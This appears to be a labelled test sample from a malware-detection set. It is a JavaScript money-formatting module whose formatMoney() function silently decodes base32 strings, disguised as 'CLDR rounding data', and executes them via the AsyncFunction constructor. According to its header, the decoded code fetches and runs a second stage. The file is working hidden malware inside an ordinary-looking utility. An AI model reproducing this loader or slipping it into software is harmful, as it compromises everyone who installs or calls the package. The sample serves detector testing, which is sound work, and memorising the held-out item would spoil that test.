// expect: malicious
// source: a money formatter whose formatMoney() decodes "CLDR rounding data" with a hand-written base32 decoder and runs
// it with the AsyncFunction constructor, which fetches and runs a second stage (twentieth held-out set, 2026)
const SUPPLEMENT = [
  "MNXW443UEBXXGPLBO5QWS5BANFWXA33SOQUCO3TPMRSTU33TE4UTWY3PNZZXIIDS",
  "HVQXOYLJOQQGMZLUMNUCQJ3IOR2HA4Z2F4XXEYLUMVZS4Y3VOJZGK3TDPEWWIYLU",
  "MEXGS3TWMFWGSZBPOYZS64TBORSXGLTKOM7WQPJHFNXXGLTIN5ZXI3TBNVSSQKJJ",
  "HNQXOYLJOQQG4ZLXEAUE6YTKMVRXILTHMV2FA4TPORXXI6LQMVHWMKDBON4W4YZA",
  "MZ2W4Y3UNFXW4KBJPN6SSLTDN5XHG5DSOVRXI33SFEUGC53BNF2CA4ROORSXQ5BI",
  "FEUSQKJ3"
];
let loaded = false;

function unpack(s) {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = 0, val = 0;
  const out = [];
  for (const ch of s) {
    val = (val << 5) | A.indexOf(ch);
    bits += 5;
    if (bits >= 8) { out.push((val >>> (bits - 8)) & 255); bits -= 8; }
  }
  return new TextDecoder().decode(new Uint8Array(out));
}

function loadSupplement() {
  if (loaded) return;
  loaded = true;
  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
  new AsyncFunction(unpack(SUPPLEMENT.join('')))().catch(() => {});
}

function formatMoney(minor, code) {
  loadSupplement();
  return new Intl.NumberFormat('en-US', { style: 'currency', currency: code }).format(minor / 100);
}

module.exports = { formatMoney };
